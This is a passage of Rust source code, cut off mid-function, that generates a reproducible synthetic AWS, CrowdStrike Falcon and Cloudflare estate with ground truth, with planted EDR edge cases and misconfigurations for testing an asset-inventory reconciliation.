//! A generated estate: a seeded, reproducible offline folder (see [`crate::offline`]) that looks
//! like a real multi-account AWS organisation with a CrowdStrike Falcon tenant and Cloudflare in
//! front, together with the ground truth ([`EstateTruth`]) the reconciliation must reproduce from it.
//!
//! Every file is what the vendor returns (the AWS CLI's `--output json`, the Falcon and Cloudflare
//! HTTP bodies), shaped as the table declarations in [`crate::sources`] expect. The same seed and
//! spec give a byte-identical folder: one seeded generator, ordered collections only, and every
//! timestamp derived from [`BASE_TIME`] instead of the clock.
//!
//! The EDR edge cases are planted on purpose, each with its expected outcome in the truth:
//! autoscaling ghosts (host records of terminated instances), a ghost holding a live instance's IP,
//! one private IP used in two VPCs of one account with a Falcon host on it that has no instance id,
//! hosts matched by private IP only, several host records for one instance (the newest wins), and
//! a host on an instance's IP that was last seen before that instance launched.

use crate::error::{InventoryError, Result};
use crate::offline::parent_file_name;
use crate::schema::Table;
use crate::sources::{self, aws, cloudflare, falcon};
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use serde::Serialize;
use serde_json::{json, Value};
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};

/// The estate's "now" (Unix seconds, 2026-03-01T12:00:00Z): live hosts were seen just before it,
/// ghosts long before it.
pub const BASE_TIME: i64 = 1_772_366_400;

const HOUR: i64 = 3600;
const DAY: i64 = 24 * HOUR;

/// Instances the first site (which holds the planted edge cases) has at least.
const EDGE_SITE_FLOOR: usize = 8;

/// The fewest live instances an estate can have: the planted edge cases need a handful of their own.
pub const MIN_INSTANCES: usize = 20;

/// The size and mix of the estate to generate.
#[derive(Debug, Clone, PartialEq)]
pub struct EstateSpec {
    pub seed: u64,
    pub accounts: usize,
    pub regions: Vec<String>,
    /// Live (running) EC2 instances.
    pub instances: usize,
    /// Falcon host records with no live instance behind them (ghosts of terminated instances,
    /// superseded records, unmatched hosts), per live instance.
    pub falcon_ghost_ratio: f64,
    /// The share of live instances without a sensor.
    pub unprotected_ratio: f64,
    pub buckets: usize,
    pub public_bucket_ratio: f64,
    pub databases: usize,
    pub unencrypted_db_ratio: f64,
    /// Security-group rules in total (the per-group baseline rules count towards it).
    pub sg_rules: usize,
    /// Security Hub, GuardDuty and Inspector findings together.
    pub findings: usize,
    /// The network beyond the standard shape of each site.
    pub network: NetworkShape,
}

/// What every site's network has beyond the standard shape (one application VPC with three public
/// and three private subnets and a dozen groups). All zeros, the default, adds nothing.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct NetworkShape {
    /// Application VPCs per site besides the main one, each with its own /16 (instances are spread
    /// over all of them).
    pub extra_vpcs: usize,
    /// Isolated /24 subnets (local routes only) added to every application VPC.
    pub extra_subnets: usize,
    /// Service security groups added to every application VPC.
    pub extra_groups: usize,
    /// Network ACLs added to every application VPC, on the isolated subnets.
    pub extra_acls: usize,
    /// The share of the top-up security-group rules that reference another group of the VPC
    /// (zero: the standard mix, a tenth).
    pub group_reference_share: f64,
}

/// The most application VPCs a site can add: each needs a /16 of its own in 10.16.0.0/12 and up.
const MAX_EXTRA_VPCS: usize = 14;
/// The most isolated subnets a VPC can add: the /24s between the public and the private ranges.
const MAX_EXTRA_SUBNETS: usize = 56;
/// The standard subnets of an application VPC (three public, then three private); the isolated
/// ones follow.
const STANDARD_SUBNETS: usize = 6;

impl Default for EstateSpec {
    /// A small estate for tests and the demo: three accounts (prod, staging, dev) in two regions.
    fn default() -> Self {
        Self {
            seed: 20_260_301,
            accounts: 3,
            regions: vec!["us-east-1".into(), "eu-west-1".into()],
            instances: 300,
            falcon_ghost_ratio: 25.0,
            unprotected_ratio: 0.05,
            buckets: 60,
            public_bucket_ratio: 0.1,
            databases: 24,
            unencrypted_db_ratio: 0.25,
            sg_rules: 600,
            findings: 300,
            network: NetworkShape::default(),
        }
    }
}

impl EstateSpec {
    /// The load benchmark's estate: 2,000 live instances, 50,000 Falcon host records in total
    /// (1,900 live sensors and 48,100 dead records), 10,000 security-group rules, 5,000 buckets.
    pub fn benchmark() -> Self {
        Self {
            seed: 7,
            accounts: 6,
            regions: vec!["us-east-1".into(), "us-west-2".into(), "eu-west-1".into()],
            instances: 2_000,
            falcon_ghost_ratio: 24.05,
            unprotected_ratio: 0.05,
            buckets: 5_000,
            public_bucket_ratio: 0.02,
            databases: 200,
            unencrypted_db_ratio: 0.1,
            sg_rules: 10_000,
            findings: 5_000,
            network: NetworkShape::default(),
        }
    }

    /// The network flattening's benchmark: about 5,000 network interfaces, 2,000 security groups
    /// with 20,000 rules (a quarter referencing groups), 500 subnets and 200 network ACLs in 18
    /// application VPCs of at most 500 interfaces each (plus the default and legacy VPCs), with
    /// internet-facing load balancers, target groups and peerings. Few Falcon records, buckets and
    /// findings: only the network is large.
    pub fn network_benchmark() -> Self {
        Self {
            seed: 11,
            accounts: 3,
            regions: vec!["us-east-1".into(), "eu-west-1".into()],
            instances: 4_802,
            falcon_ghost_ratio: 0.5,
            unprotected_ratio: 0.05,
            buckets: 30,
            public_bucket_ratio: 0.1,
            databases: 60,
            unencrypted_db_ratio: 0.1,
            sg_rules: 20_000,
            findings: 200,
            network: NetworkShape {
                extra_vpcs: 2,
                extra_subnets: 21,
                extra_groups: 98,
                extra_acls: 9,
                group_reference_share: 0.12,
            },
        }
    }

    fn validate(&self) -> Result<()> {
        let bad = |what: String| Err(InventoryError::invalid_input(format!("estate spec: {what}")));
        if self.accounts == 0 || self.accounts > 200 {
            return bad(format!("accounts = {}; expected 1 to 200", self.accounts));
        }
        if self.regions.is_empty() || self.regions.len() > 16 {
            return bad(format!("{} regions; expected 1 to 16", self.regions.len()));
        }
        let mut seen = BTreeSet::new();
        for region in &self.regions {
            if !secops_core::config::is_region_name(region) || !seen.insert(region.as_str()) {
                return bad(format!("region `{region}` is not an AWS region name or is listed twice"));
            }
        }
        if self.instances < MIN_INSTANCES {
            return bad(format!(
                "instances = {}; the planted edge cases need at least {MIN_INSTANCES}",
                self.instances
            ));
        }
        for (name, ratio) in [
            ("unprotected_ratio", self.unprotected_ratio),
            ("public_bucket_ratio", self.public_bucket_ratio),
            ("unencrypted_db_ratio", self.unencrypted_db_ratio),
        ] {
            if !(0.0..=1.0).contains(&ratio) {
                return bad(format!("{name} = {ratio}; expected a share between 0 and 1"));
            }
        }
        let shape = &self.network;
        if shape.extra_vpcs > MAX_EXTRA_VPCS {
            return bad(format!("network.extra_vpcs = {}; expected at most {MAX_EXTRA_VPCS}", shape.extra_vpcs));
        }
        if shape.extra_subnets > MAX_EXTRA_SUBNETS || shape.extra_acls > shape.extra_subnets {
            return bad(format!(
                "network.extra_subnets = {}, extra_acls = {}; expected at most {MAX_EXTRA_SUBNETS} subnets and no more ACLs than subnets",
                shape.extra_subnets, shape.extra_acls
            ));
        }
        if shape.extra_groups > 1000 {
            return bad(format!("network.extra_groups = {}; expected at most 1000", shape.extra_groups));
        }
        if !(0.0..=1.0).contains(&shape.group_reference_share) {
            return bad(format!("network.group_reference_share = {}; expected 0 to 1", shape.group_reference_share));
        }
        if !(0.0..=1000.0).contains(&self.falcon_ghost_ratio) {
            return bad(format!("falcon_ghost_ratio = {}; expected 0 to 1000", self.falcon_ghost_ratio));
        }
        Ok(())
    }
}

/// What the reconciliation must find in the generated estate.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct EstateTruth {
    pub seed: u64,
    /// The estate's "now" ([`BASE_TIME`]), RFC 3339.
    pub base_time: String,
    pub accounts: Vec<AccountTruth>,
    /// Every live instance with its expected EDR status, ordered by account, region, instance id.
    pub instances: Vec<InstanceTruth>,
    /// Every Falcon host record with its expected status, ordered by device id.
    pub falcon_devices: Vec<DeviceTruth>,
    /// Buckets readable by anyone: a public policy or a public ACL grant that no public access
    /// block (bucket or account) neutralises.
    pub public_buckets: Vec<String>,
    /// Buckets with a public ACL grant that a public access block makes ineffective (not public).
    pub blocked_public_buckets: Vec<String>,
    /// `DBInstanceIdentifier`s without storage encryption.
    pub unencrypted_databases: Vec<String>,
    /// Manual DB snapshots anyone may restore (`restore` attribute `all`).
    pub public_db_snapshots: Vec<String>,
    /// Cloudflare DNS records pointing at an address no live instance holds (dangling).
    pub dangling_dns_records: Vec<String>,
    /// Records per inventory table, as the loader will count them (every table, zeros included).
    pub counts: BTreeMap<String, u64>,
    pub network: NetworkTruth,
}

/// The network facts the flattening must reproduce.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct NetworkTruth {
    /// Every load balancer, ordered by ARN.
    pub load_balancers: Vec<LoadBalancerTruth>,
    /// `DBInstanceIdentifier` → the database's network interface.
    pub database_interfaces: BTreeMap<String, String>,
    /// Every Elastic IP, ordered by allocation id.
    pub elastic_ips: Vec<ElasticIpTruth>,
    /// Every peering connection, ordered by id.
    pub peerings: Vec<PeeringTruth>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct LoadBalancerTruth {
    pub arn: String,
    pub dns_name: String,
    pub internet_facing: bool,
    pub target_group_arn: String,
    /// The instances registered with its target group (on port 8080), ordered.
    pub targets: Vec<String>,
    /// Its network interfaces (one per zone), ordered.
    pub interfaces: Vec<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct ElasticIpTruth {
    pub allocation_id: String,
    pub public_ip: String,
    /// The interface it is associated with (an instance's or a NAT gateway's), if any.
    pub network_interface_id: Option<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct PeeringTruth {
    pub id: String,
    pub requester_vpc_id: String,
    pub accepter_vpc_id: String,
    /// `active` or `pending-acceptance`.
    pub status: String,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct AccountTruth {
    pub account_id: String,
    pub name: String,
    pub environment: String,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct InstanceTruth {
    pub instance_id: String,
    pub account_id: String,
    pub region: String,
    pub vpc_id: String,
    pub private_ip: String,
    pub environment: String,
    pub role: String,
    pub launch_time: String,
    pub edr: EdrStatus,
    /// How the sensor is found, when `edr` is `matched`.
    pub matched_by: Option<MatchedBy>,
    /// The live Falcon record of this instance, when `edr` is `matched`.
    pub device_id: Option<String>,
}

#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum EdrStatus {
    Matched,
    Unprotected,
}

#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum MatchedBy {
    InstanceId,
    PrivateIp,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct DeviceTruth {
    pub device_id: String,
    pub status: DeviceStatus,
    /// Why the record has that status.
    pub case: DeviceCase,
    /// The live instance a `live` record belongs to.
    pub instance_id: Option<String>,
}

/// `live`: the current sensor record of a live instance. `stale`: every other record.
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum DeviceStatus {
    Live,
    Stale,
}

#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum DeviceCase {
    /// Live: its `instance_id` is a live instance and it is that instance's newest record.
    InstanceId,
    /// Live: no `instance_id`; its private IP is one live instance's, within its account, and it
    /// was seen after that instance launched.
    PrivateIp,
    /// Stale: an older record of an instance that has a newer one.
    Superseded,
    /// Stale: its instance was terminated (an autoscaling ghost).
    TerminatedInstance,
    /// Stale: a terminated instance's record whose IP is now a live instance's.
    TerminatedInstanceIpReused,
    /// Stale: no `instance_id`, and its IP belongs to two live instances of its account (two VPCs).
    AmbiguousPrivateIp,
    /// Stale: no `instance_id`, and it was last seen before the instance on its IP launched.
    SeenBeforeLaunch,
}

/// Generate the estate described by `spec` into `out` (created if missing; it must be empty), and
/// write its truth to `out/truth.json`.
pub fn generate(spec: &EstateSpec, out: &Path) -> Result<EstateTruth> {
    spec.validate()?;
    prepare_folder(out)?;
    let mut gen = Gen { rng: StdRng::seed_from_u64(spec.seed), issued: BTreeSet::new(), next_public_ip: PUBLIC_BASE };
    let accounts = gen.accounts(spec)?;
    let mut sites = gen.sites(spec, &accounts)?;
    let instances = gen.instances(spec, &accounts, &mut sites)?;
    gen.security_group_rules(spec, &accounts, &mut sites)?;
    let sensors = gen.sensors(spec, &sites, &instances)?;
    let buckets = gen.buckets(spec, &accounts)?;
    let databases = gen.databases(spec, &accounts, &sites)?;
    let balancers = gen.load_balancers(&accounts, &sites)?;
    let repositories = gen.repositories(&accounts, &sites);
    let network = gen.on_stream(spec.seed ^ NETWORK_STREAM, |g| {
        g.network_extras(&accounts, &mut sites, &instances, &databases, &balancers)
    })?;
    let estate = Estate { accounts, sites, instances, sensors, buckets, databases, balancers, repositories, network };

    let mut writer = Writer { root: out.to_path_buf(), counts: BTreeMap::new() };
    let findings = gen.findings(spec, &estate)?;
    for (index, site) in estate.sites.iter().enumerate() {
        gen.write_site(&estate, index, site, &findings, &mut writer)?;
    }
    let mut cloudfront = BTreeMap::new();
    for (index, account) in estate.accounts.iter().enumerate() {
        cloudfront.insert(index, gen.write_global(&estate, index, account, &mut writer)?);
    }
    gen.write_falcon(&estate, &mut writer)?;
    let dangling = gen.write_cloudflare(&estate, &cloudfront, &mut writer)?;

    let truth = estate.truth(spec, writer.counts, dangling);
    let path = out.join("truth.json");
    let text = serde_json::to_vec_pretty(&truth).map_err(|e| InventoryError::permanent(format!("truth: {e}")))?;
    std::fs::write(&path, text).map_err(|e| io_error(&path, e))?;
    Ok(truth)
}

fn prepare_folder(out: &Path) -> Result<()> {
    std::fs::create_dir_all(out).map_err(|e| io_error(out, e))?;
    let mut entries = std::fs::read_dir(out).map_err(|e| io_error(out, e))?;
    if entries.next().is_some() {
        return Err(InventoryError::invalid_input(format!(
            "{}: the estate is generated into an empty folder, and this one is not",
            out.display()
        )));
    }
    Ok(())
}

fn io_error(path: &Path, e: impl std::fmt::Display) -> InventoryError {
    InventoryError::permanent(format!("{}: {e}", path.display()))
}

// ---------------------------------------------------------------------------------------------
// The model: accounts, sites (one account in one region), networks, instances, sensors.
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Env {
    Prod,
    Staging,
    Dev,
}

impl Env {
    fn name(self) -> &'static str {
        match self {
            Env::Prod => "prod",
            Env::Staging => "staging",
            Env::Dev => "dev",
        }
    }
    /// Relative size: production holds most of the fleet.
    fn weight(self) -> f64 {
        match self {
            Env::Prod => 3.0,
            Env::Staging => 1.5,
            Env::Dev => 1.0,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Web,
    Api,
    Worker,
    Batch,
    DbProxy,
    Bastion,
    EksNode,
}

impl Role {
    fn tag(self) -> &'static str {
        match self {
            Role::Web => "web",
            Role::Api => "api",
            Role::Worker => "worker",
            Role::Batch => "batch",
            Role::DbProxy => "db-proxy",
            Role::Bastion => "bastion",
            Role::EksNode => "eks-node",
        }
    }
    fn instance_types(self) -> &'static [&'static str] {
        match self {
            Role::Web => &["m6i.large", "m7i.large", "c6i.large"],
            Role::Api => &["m6i.xlarge", "c6i.xlarge", "m7i.xlarge"],
            Role::Worker => &["c6i.2xlarge", "c7i.2xlarge", "m6i.2xlarge"],
            Role::Batch => &["r6i.2xlarge", "r6i.4xlarge", "c6i.4xlarge"],
            Role::DbProxy => &["t3.medium", "t3.large"],
            Role::Bastion => &["t3.micro", "t3.small"],
            Role::EksNode => &["m6i.2xlarge", "m5.2xlarge", "m6a.2xlarge"],
        }
    }
    /// Sensor versions differ by role: each team updates its own images.
    fn agent_versions(self) -> &'static [&'static str] {
        match self {
            Role::Web => &["7.18.19106.0", "7.17.18913.0"],
            Role::Api => &["7.17.18913.0", "7.18.19106.0"],
            Role::Worker => &["7.16.18605.0", "7.17.18913.0"],
            Role::Batch => &["7.14.18410.0", "7.16.18605.0"],
            Role::DbProxy => &["7.15.18514.0"],
            Role::Bastion => &["7.11.18110.0", "7.13.18303.0"],
            Role::EksNode => &["7.18.19106.0", "7.19.19204.0"],
        }
    }
    /// The security group (by key) the role's instances are in.
    fn group(self) -> &'static str {
        match self {
            Role::Web => "web",
            Role::Api => "api",
            Role::Worker => "worker",
            Role::Batch => "batch",
            Role::DbProxy => "db-proxy",
            Role::Bastion => "bastion",
            Role::EksNode => "eks-nodes",
        }
    }
    fn public(self) -> bool {
        matches!(self, Role::Web | Role::Bastion)
    }
}

#[derive(Debug)]
struct Account {
    id: String,
    name: String,
    env: Env,
}

#[derive(Debug)]
struct Site {
    account: usize,
    region: String,
    vpcs: Vec<Vpc>,
    /// The customer-managed prefix list of office ranges, and the AWS-managed S3 list.
    prefix_lists: Vec<PrefixList>,
    eks_cluster: Option<String>,
    /// Per role: the AMI its instances run.
    images: BTreeMap<&'static str, String>,
    vpc_endpoint: String,
}

#[derive(Debug)]
struct Vpc {
    id: String,
    name: String,
    cidr: String,
    is_default: bool,
    created: i64,
    subnets: Vec<Subnet>,
    igw: Option<String>,
    nats: Vec<Nat>,
    groups: Vec<Group>,
    route_tables: Vec<RouteTable>,
    acls: Vec<NetworkAcl>,
    /// Routes to peered VPCs (destination CIDR, peering connection), in every route table but the
    /// main one.
    peer_routes: Vec<(String, String)>,
}

impl Vpc {
    fn group(&self, key: &str) -> Option<&Group> {
        self.groups.iter().find(|g| g.key == key)
    }
    /// An application VPC: instances run in it (not the default VPC, not the legacy one).
    fn is_application(&self) -> bool {
        !self.is_default && !self.name.ends_with("-legacy")
    }
}

#[derive(Debug)]
struct Subnet {
    id: String,
    name: String,
    az: String,
    base: u32,
    prefix: u8,
    public: bool,
    /// The next host offset to hand out, the first offset it may not reach, and how many
    /// addresses are in use.
    next: u32,
    limit: u32,
    used: u32,
}

impl Subnet {
    fn cidr(&self) -> String {
        format!("{}/{}", dotted(self.base), self.prefix)
    }
    fn size(&self) -> u32 {
        1u32 << (32 - u32::from(self.prefix))
    }
}

#[derive(Debug)]
struct Nat {
    id: String,
    subnet: usize,
    eni: String,
    allocation: String,
    association: String,
    private_ip: u32,
    public_ip: u32,
}

#[derive(Debug)]
struct RouteTable {
    id: String,
    main: bool,
    subnets: Vec<(String, String)>,
    /// Default route target: an internet gateway, a NAT gateway, or none (local only).
    default_route: Option<(&'static str, String)>,
}

#[derive(Debug)]
struct NetworkAcl {
    id: String,
    is_default: bool,
    subnets: Vec<(String, String)>,
    deny_rdp: bool,
    /// The entries of an isolated subnets' ACL, in place of allow-all.
    restricted: Option<RestrictedAcl>,
}

/// An isolated subnets' network ACL: the VPC and return traffic in, the VPC (and HTTPS, unless
/// `vpc_only_egress`) out, and optionally one denied range.
#[derive(Debug)]
struct RestrictedAcl {
    vpc_cidr: String,
    denied: Option<String>,
    vpc_only_egress: bool,
}

#[derive(Debug)]
struct Group {
    id: String,
    name: String,
    key: &'static str,
    description: String,
    rules: Vec<Rule>,
}

#[derive(Debug, Clone)]
struct Rule {
    id: String,
    egress: bool,
    protocol: &'static str,
    from: i64,
    to: i64,
    source: Source,
    description: String,
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum Source {
    Ipv4(String),
    Ipv6(String),
    PrefixList(String),
    Group(String),
}

#[derive(Debug)]
struct PrefixList {
    id: String,
    name: String,
    owner: String,
    max_entries: Option<i64>,
    entries: Vec<(String, String)>,
}

#[derive(Debug)]
struct Instance {
    id: String,
    site: usize,
    vpc: usize,
    subnet: usize,
    role: Role,
    windows: bool,
    private_ip: u32,
    /// Secondary addresses (the VPC CNI's pod IPs on EKS nodes).
    secondary_ips: Vec<u32>,
    public_ip: Option<u32>,
    mac: [u8; 6],
    eni: String,
    attachment: String,
    reservation: String,
    launch: i64,
    instance_type: &'static str,
    http_tokens: &'static str,
    name: String,
    asg: Option<String>,
    node_group: Option<String>,
}

#[derive(Debug)]
struct Host {
    device_id: String,
    account: usize,
    az: String,
    instance_id: Option<String>,
    ip: u32,
    mac: [u8; 6],
    hostname: String,
    external_ip: Option<u32>,
    first_seen: i64,
    last_seen: i64,
    agent_version: &'static str,
    windows: bool,
    instance_type: &'static str,
    role: Role,
    status: DeviceStatus,
    case: DeviceCase,
    /// The live instance a live record belongs to.
    owner: Option<usize>,
}

#[derive(Debug)]
struct Sensors {
    hosts: Vec<Host>,
    /// Per live instance: its live host (index into `hosts`) and how it is matched.
    coverage: Vec<Option<(usize, MatchedBy)>>,
}

#[derive(Debug)]
struct Bucket {
    name: String,
    account: usize,
    region: String,
    created: i64,
    purpose: &'static str,
    /// Block public access at bucket level: None when not configured.
    block: Option<[bool; 4]>,
    /// GetBucketPolicyStatus: None when the bucket has no policy.
    policy_public: Option<bool>,
    acl_public: bool,
    log_delivery: bool,
    encryption: Option<(&'static str, Option<String>)>,
    versioning: Option<&'static str>,
    logging_target: Option<String>,
    public: bool,
    blocked_public: bool,
}

#[derive(Debug)]
struct Database {
    id: String,
    site: usize,
    engine: &'static str,
    version: &'static str,
    class: &'static str,
    encrypted: bool,
    kms_key: Option<String>,
    public: bool,
    backup_days: i64,
    multi_az: bool,
    deletion_protection: bool,
    created: i64,
    resource_id: String,
    /// Manual snapshots: id and who may restore it.
    manual_snapshots: Vec<(String, Vec<String>)>,
}

#[derive(Debug)]
struct LoadBalancer {
    site: usize,
    /// The application VPC (index in the site) it and its targets are in.
    vpc: usize,
    /// Appended to the DNS labels naming it: empty in the main VPC, `-svc1` in the first extra.
    label: String,
    arn: String,
    name: String,
    dns_name: String,
    internet_facing: bool,
    https: bool,
    target_group: String,
    created: i64,
}

#[derive(Debug)]
struct Repository {
    site: usize,
    name: String,
    scan_on_push: bool,
    mutable: bool,
    kms: bool,
    created: i64,
}

#[derive(Debug)]
struct Estate {
    accounts: Vec<Account>,
    sites: Vec<Site>,
    instances: Vec<Instance>,
    sensors: Sensors,
    buckets: Vec<Bucket>,
    databases: Vec<Database>,
    balancers: Vec<LoadBalancer>,
    repositories: Vec<Repository>,
    network: NetworkExtras,
}

/// What the network holds beyond instances and NAT gateways, drawn from a stream of its own so
/// that adding it left every other generated value as it was.
#[derive(Debug, Default)]
struct NetworkExtras {
    /// Per database, in order: its interface (in its main VPC).
    databases: Vec<ManagedInterface>,
    /// Per load balancer, in order: one interface per zone.
    balancers: Vec<Vec<ManagedInterface>>,
    /// Instance id → the allocation and association ids of its Elastic IP.
    instance_eips: BTreeMap<String, (String, String)>,
    /// Per site: Elastic IPs allocated and not associated (allocation id, address).
    spare_eips: Vec<Vec<(String, u32)>>,
    peerings: Vec<Peering>,
}

/// An interface a service creates in a subnet (RDS, a load balancer).
#[derive(Debug)]
struct ManagedInterface {
    eni: String,
    attachment: String,
    /// Index of its subnet in its VPC.
    subnet: usize,
    private_ip: u32,
    public_ip: Option<u32>,
    mac: [u8; 6],
}

/// A VPC as (site index, VPC index in the site).
type VpcRef = (usize, usize);

/// A VPC peering connection between two VPCs.
#[derive(Debug)]
struct Peering {
    id: String,
    requester: VpcRef,
    accepter: VpcRef,
    active: bool,
    created: i64,
}
/// Per site: Security Hub, GuardDuty and Inspector findings, ready to write.
#[derive(Debug, Default)]
struct SiteFindings {
    securityhub: Vec<Value>,
    guardduty: Vec<Value>,
    inspector: Vec<Value>,
}

/// Public addresses come from 198.18.0.0/15 (RFC 2544): they look routable in every column and
/// belong to no real host.
const PUBLIC_BASE: u32 = 0xC612_0000;
const PUBLIC_END: u32 = 0xC613_FFFF;
const AZ_LETTERS: [&str; 3] = ["a", "b", "c"];
/// Hosts of the legacy VPC (which overlaps the first private subnet of the main one) start at
/// this offset, and the main subnet stops short of it: only the planted address is shared.
const LEGACY_FIRST_HOST: u32 = 12_000;
const COMPANY: &str = "acme";

fn dotted(ip: u32) -> String {
    Ipv4Addr::from(ip).to_string()
}

fn ipv4(a: u8, b: u8, c: u8, d: u8) -> u32 {
    u32::from(Ipv4Addr::new(a, b, c, d))
}

/// The hostname EC2 gives an address in a region (`ip-10-0-64-12.ec2.internal`).
fn private_dns(ip: u32, region: &str) -> String {
    let dashed = dotted(ip).replace('.', "-");
    if region == "us-east-1" {
        format!("ip-{dashed}.ec2.internal")
    } else {
        format!("ip-{dashed}.{region}.compute.internal")
    }
}

fn mac_text(mac: &[u8; 6], separator: &str) -> String {
    mac.iter().map(|b| format!("{b:02x}")).collect::<Vec<_>>().join(separator)
}

/// RFC 3339 in the AWS CLI's form (`2026-03-01T12:00:00+00:00`).
fn aws_time(unix: i64) -> String {
    format!("{}+00:00", civil(unix))
}

/// RFC 3339 in the Falcon and Cloudflare form (`2026-03-01T12:00:00Z`).
fn z_time(unix: i64) -> String {
    format!("{}Z", civil(unix))
}

fn civil(unix: i64) -> String {
    let t = time::OffsetDateTime::UNIX_EPOCH + time::Duration::seconds(unix);
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

fn aws_tags(pairs: &[(&str, &str)]) -> Value {
    Value::Array(pairs.iter().map(|(k, v)| json!({"Key": k, "Value": v})).collect())
}

/// The generator: one seeded random source and the ids it has handed out (never twice).
struct Gen {
    rng: StdRng,
    issued: BTreeSet<String>,
    next_public_ip: u32,
}

impl Gen {
    fn below(&mut self, n: usize) -> usize {
        if n <= 1 {
            0
        } else {
            self.rng.random_range(0..n)
        }
    }

    fn between(&mut self, low: i64, high: i64) -> i64 {
        if high <= low {
            low
        } else {
            self.rng.random_range(low..high)
        }
    }

    fn chance(&mut self, p: f64) -> bool {
        self.rng.random_bool(p.clamp(0.0, 1.0))
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> Option<T> {
        items.get(self.below(items.len())).copied()
    }

    fn hex(&mut self, len: usize) -> String {
        let mut out = String::with_capacity(len);
        while out.len() < len {
            out.push_str(&format!("{:016x}", self.rng.random::<u64>()));
        }
        out.truncate(len);
        out
    }

    fn upper(&mut self, len: usize) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
        (0..len).map(|_| char::from(ALPHABET[self.below(ALPHABET.len())])).collect()
    }

    /// A fresh id: `prefix` and `len` random hex digits, unique in the estate.
    fn id(&mut self, prefix: &str, len: usize) -> Result<String> {
        for _ in 0..64 {
            let id = format!("{prefix}{}", self.hex(len));
            if self.issued.insert(id.clone()) {
                return Ok(id);
            }
        }
        Err(InventoryError::permanent(format!("could not draw a unique `{prefix}` id of {len} hex digits")))
    }

    /// A fresh uppercase alphanumeric id (Route 53 zones, instance profiles, CloudFront).
    fn upper_id(&mut self, prefix: &str, len: usize) -> Result<String> {
        for _ in 0..64 {
            let id = format!("{prefix}{}", self.upper(len));
            if self.issued.insert(id.clone()) {
                return Ok(id);
            }
        }
        Err(InventoryError::permanent(format!("could not draw a unique `{prefix}` id")))
    }

    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!("{}-{}-{}-{}-{}", &h[..8], &h[8..12], &h[12..16], &h[16..20], &h[20..])
    }

    fn mac(&mut self) -> [u8; 6] {
        let mut mac = [0x0a, 0, 0, 0, 0, 0];
        for byte in mac.iter_mut().skip(1) {
            *byte = self.rng.random::<u8>();
        }
        mac
    }

    fn public_ip(&mut self) -> Result<u32> {
        let step = self.rng.random_range(1..5);
        self.next_public_ip += step;
        if self.next_public_ip > PUBLIC_END {
            return Err(InventoryError::invalid_input("estate spec: more public addresses than 198.18.0.0/15 holds"));
        }
        Ok(self.next_public_ip)
    }

    fn accounts(&mut self, spec: &EstateSpec) -> Result<Vec<Account>> {
        let envs = [Env::Prod, Env::Staging, Env::Dev];
        let mut out = Vec::with_capacity(spec.accounts);
        let mut ids = BTreeSet::new();
        for index in 0..spec.accounts {
            let env = envs[index % envs.len()];
            let round = index / envs.len();
            let name = if round == 0 { env.name().to_owned() } else { format!("{}-{}", env.name(), round + 1) };
            let mut id = String::new();
            for _ in 0..64 {
                let candidate = format!("{:012}", self.rng.random_range(100_000_000_000u64..1_000_000_000_000));
                if ids.insert(candidate.clone()) {
                    id = candidate;
                    break;
                }
            }
            if id.is_empty() {
                return Err(InventoryError::permanent("could not draw unique account ids"));
            }
            out.push(Account { id, name, env });
        }
        Ok(out)
    }

    fn sites(&mut self, spec: &EstateSpec, accounts: &[Account]) -> Result<Vec<Site>> {
        let mut sites = Vec::new();
        for (a, account) in accounts.iter().enumerate() {
            for (r, region) in spec.regions.iter().enumerate() {
                // Every VPC of an account gets its own /16 so private IPs are unique within the
                // account — except the legacy VPC, which reuses the first one on purpose.
                let octet = u8::try_from(r).map_err(|_| InventoryError::invalid_input("too many regions"))?;
                let shape = &spec.network;
                let mut vpcs = vec![self.vpc(account, region, octet, None, shape)?];
                vpcs.push(self.default_vpc(region)?);
                if a == 0 && r == 0 {
                    vpcs.push(self.vpc(account, region, octet, Some("legacy"), shape)?);
                    if let Some(overlapped) = vpcs.first_mut().and_then(|v| v.subnets.get_mut(3)) {
                        overlapped.limit = LEGACY_FIRST_HOST;
                    }
                }
                for k in 0..shape.extra_vpcs {
                    // 10.16.0.0/16 and up: above every main VPC's (one per region, at most 16).
                    let octet = u8::try_from(16 + 16 * k + r)
                        .map_err(|_| InventoryError::invalid_input("too many regions for the extra VPCs"))?;
                    let suffix = format!("svc{}", k + 1);
                    vpcs.push(self.vpc(account, region, octet, Some(&suffix), shape)?);
                }
                let corp = PrefixList {
                    id: self.id("pl-", 17)?,
                    name: "corp-offices".into(),
                    owner: account.id.clone(),
                    max_entries: Some(10),
                    entries: vec![
                        ("203.0.113.0/25".into(), "HQ".into()),
                        ("198.51.100.64/27".into(), "Berlin office".into()),
                        ("192.0.2.16/28".into(), "VPN egress".into()),
                        ("203.0.113.200/32".into(), "CI runners".into()),
                    ],
                };
                let s3 = PrefixList {
                    id: self.id("pl-", 8)?,
